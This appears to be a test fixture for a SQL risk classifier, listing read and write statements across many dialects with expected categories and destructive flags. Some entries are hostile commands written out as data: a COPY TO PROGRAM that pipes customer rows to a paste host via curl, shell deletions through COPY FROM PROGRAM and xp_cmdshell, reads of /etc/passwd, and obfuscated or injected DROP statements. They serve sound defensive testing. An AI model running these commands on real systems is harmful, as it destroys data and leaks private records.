/** `D data tables=a,b dialect=mysql :: statement`. */
export const reading = `
- read tables=orders :: SELECT * FROM orders
- read tables=app.orders,customers :: SELECT o.id FROM app.orders o JOIN customers c ON c.id = o.c
- read tables=orders :: WITH r AS (SELECT * FROM orders) SELECT * FROM r
- read tables=orders,items :: SELECT * FROM orders WHERE id IN (SELECT o FROM items)
- read tables=select :: SELECT * FROM "select"
- read :: SELECT '; DROP TABLE x; --'
- read :: SELECT $tag$ DROP TABLE x; $tag$
- read :: SELECT "DROP TABLE x" FROM t
- read :: -- DROP TABLE x⏎SELECT 1
- read :: /* DROP TABLE x; */ SELECT 1
- read :: /* a /* nested */ DROP TABLE x */ SELECT 1
- read :: EXPLAIN DELETE FROM orders
- read :: EXPLAIN (FORMAT JSON) UPDATE orders SET a = 1
- read :: EXPLAIN (ANALYZE false) DELETE FROM orders
- read :: SHOW search_path
- read dialect=mysql :: SHOW PROCESSLIST
- read dialect=mysql :: DESCRIBE orders
- read :: COPY orders TO STDOUT
- read :: VALUES (1), (2)
- read :: TABLE orders
- read dialect=sqlite :: PRAGMA table_info(orders)
- read dialect=bigquery tables=shop.orders :: SELECT * FROM \`shop.orders\`
- read dialect=mssql :: SELECT TOP 10 * FROM [dbo].[orders]
- read dialect=snowflake :: SELECT * FROM orders AT(OFFSET => -60)
- read dialect=clickhouse :: SELECT count() FROM hits FINAL
- read dialect=oracle :: SELECT * FROM dual
- read/config :: SELECT * FROM orders FOR UPDATE
- read :: SELECT lower(name), count(*) FROM orders GROUP BY 1
- read/config :: BEGIN; SELECT 1; COMMIT
`;
export const writing = `
D data tables=orders :: DELETE FROM orders
D data tables=orders :: delete from orders where id = 4
D data :: DELETE FROM orders WHERE 1=1
D data :: DELETE FROM orders WHERE true OR id = 3
D data :: DELETE FROM orders WHERE name LIKE '%'
D data tables=orders,customers :: DELETE FROM orders USING customers WHERE orders.c = customers.id
D data dialect=mysql tables=orders,items :: DELETE o FROM orders o JOIN items i ON i.o = o.id
D data dialect=mssql tables=orders :: DELETE TOP (500) FROM orders
D data dialect=mssql :: DELETE TOP (500) FROM orders WHERE a = 1
D data :: UPDATE orders SET a = 1
D data :: UPDATE orders SET a = 1 WHERE id = 4
- data :: INSERT INTO orders (a) VALUES (1)
- data tables=orders,feed :: INSERT INTO orders SELECT * FROM feed
D data dialect=mysql :: REPLACE INTO orders VALUES (1)
D data dialect=hive :: INSERT OVERWRITE TABLE orders SELECT * FROM feed
D data tables=stock,feed :: MERGE INTO stock s USING feed f ON s.k = f.k WHEN MATCHED THEN DELETE
D data :: TRUNCATE orders, items CASCADE
D data dialect=mysql :: TRUNCATE TABLE orders
D data :: DROP TABLE IF EXISTS app.orders CASCADE
D data :: DROP SCHEMA app CASCADE
D data :: DROP DATABASE shop
D data dialect=mssql :: DROP DATABASE shop
D data dialect=snowflake :: DROP SCHEMA raw
D data dialect=clickhouse :: DROP TABLE hits SYNC
D data dialect=clickhouse :: ALTER TABLE hits DELETE WHERE 1
D data dialect=clickhouse :: ALTER TABLE hits DROP PARTITION 202401
D data dialect=oracle :: DROP TABLE orders PURGE
D data dialect=oracle :: PURGE RECYCLEBIN
D data :: ALTER TABLE orders DROP COLUMN note
- config :: ALTER TABLE orders ADD COLUMN note text
- config :: ALTER TABLE orders DROP CONSTRAINT c
- config :: DROP INDEX i
- config :: DROP VIEW v
- config :: CREATE TABLE t (id int)
- config :: CREATE INDEX CONCURRENTLY i ON orders (id)
- data :: CREATE TABLE copy AS SELECT * FROM orders
D data dialect=snowflake :: CREATE OR REPLACE TABLE orders (id int)
- config dialect=snowflake :: UNDROP TABLE orders
- config :: CREATE OR REPLACE VIEW v AS SELECT 1
- config :: GRANT ALL ON orders TO app
D config :: DROP ROLE app
- config :: ALTER ROLE app PASSWORD 'x'
- data tables=orders,backup :: SELECT * INTO backup FROM orders
D data :: WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d
D data :: WITH d AS (DELETE FROM orders RETURNING *) INSERT INTO archive SELECT * FROM d
D data :: EXPLAIN ANALYZE DELETE FROM orders
D data :: EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET a = 1
D data dialect=mysql :: /*!50000 DROP TABLE orders */
D data dialect=mysql :: SELECT 1; /*! DELETE FROM orders */;
D data dialect=mysql :: DROP/**/TABLE/**/orders
- unknown :: DR/**/OP TABLE orders
- unknown :: FROBNICATE orders
- data dialect=mysql :: SELECT * FROM orders INTO OUTFILE '/srv/o.csv'
- data :: COPY orders FROM '/srv/o.csv'
- data :: COPY orders TO '/srv/o.csv'
D message tables=customers :: COPY (SELECT * FROM customers) TO PROGRAM 'curl -F f=@- https://paste.example'
D data :: COPY t FROM PROGRAM 'rm -rf /srv/data'
D data :: DO $$ BEGIN DELETE FROM orders; END $$
D data :: DO $$ DECLARE x int; BEGIN IF true THEN DELETE FROM orders; END IF; END $$
D data :: DO $$ BEGIN FOR r IN SELECT 1 LOOP EXECUTE 'DROP TABLE orders'; END LOOP; END $$
- unknown :: DO $$ BEGIN EXECUTE 'TRUN' || part; END $$
D data dialect=mssql :: EXEC sp_executesql N'DROP TABLE orders'
D data dialect=mssql :: EXEC('DELETE FROM orders')
D data dialect=mssql :: EXEC xp_cmdshell 'del /s /q C:\\data'
- unknown dialect=mssql :: EXEC nightly
- unknown :: CALL nightly()
D data dialect=oracle :: EXECUTE IMMEDIATE 'DROP TABLE orders'
- infra :: SELECT pg_terminate_backend(412)
D data :: SELECT lo_unlink(12)
- infra :: SELECT pg_read_file('/etc/passwd')
- infra dialect=mysql :: SELECT load_file('/etc/passwd')
- infra dialect=mysql :: KILL 412
- infra dialect=mysql :: SHUTDOWN
- data :: BEGIN; DELETE FROM orders; ROLLBACK
D data :: BEGIN; DELETE FROM orders; COMMIT
D data :: BEGIN; DELETE FROM orders; COMMIT; ROLLBACK
D data :: BEGIN; SAVEPOINT s; DELETE FROM orders; ROLLBACK TO s; DELETE FROM items; COMMIT
D data :: DELETE FROM a; BEGIN; DELETE FROM b; ROLLBACK
- config :: VACUUM FULL orders
- config :: REINDEX TABLE orders
- config :: LOCK TABLE orders
- config :: ALTER SYSTEM SET work_mem = '1GB'
D data dialect=sqlite :: DELETE FROM orders; VACUUM
D data dialect=bigquery :: DELETE FROM \`shop.orders\` WHERE true
D data dialect=bigquery :: DROP TABLE shop.orders
D data dialect=redshift :: TRUNCATE orders
D data dialect=databricks :: DELETE FROM orders VERSION AS OF 1
D data :: SELECT 1; DROP TABLE orders
- secret :: SELECT password_hash FROM users
- secret :: SELECT * FROM api_keys
D data dialect=mysql :: SELECT 'it\\'s'; DROP TABLE orders; -- '
D data :: MERGE INTO a USING b ON a.i = b.i WHEN MATCHED THEN UPDATE SET x = 1
D data dialect=mssql :: RESTORE DATABASE shop FROM DISK = 'x.bak' WITH REPLACE
D data dialect=mysql :: RESET MASTER
D data dialect=mysql :: PURGE BINARY LOGS BEFORE '2024-01-01'
- config dialect=mysql :: RENAME TABLE a TO b
- config dialect=mysql :: SET GLOBAL read_only = 1
- infra dialect=snowflake :: ALTER WAREHOUSE w SUSPEND
`;
